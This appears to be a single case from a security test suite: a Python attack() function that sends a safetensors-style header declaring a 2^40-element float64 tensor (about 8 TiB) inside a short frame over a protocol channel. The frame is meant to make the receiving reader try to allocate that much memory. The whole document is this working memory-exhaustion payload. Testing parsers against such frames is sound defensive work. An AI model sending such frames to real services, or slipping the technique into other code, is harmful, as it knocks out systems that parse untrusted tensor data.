"""068 protocol: announce an array of 2^40 numbers in a short frame.

Evidence: judge - the reader asks for the memory.
Control: channel
"""


def attack():
    import json

    array = {"dtype": "F64", "shape": [1 << 40], "data_offsets": [0, 8 << 40]}
    message = json.dumps({"nonce": 1, "reply": {"ok": True, "values": {"out": ["tensor", "a0"]}}})
    header = json.dumps({"__metadata__": {"message": message}, "a0": array}).encode()
    os.write(TARGETS["response_fd"], len(header).to_bytes(8, "little") + header)
    time.sleep(20)
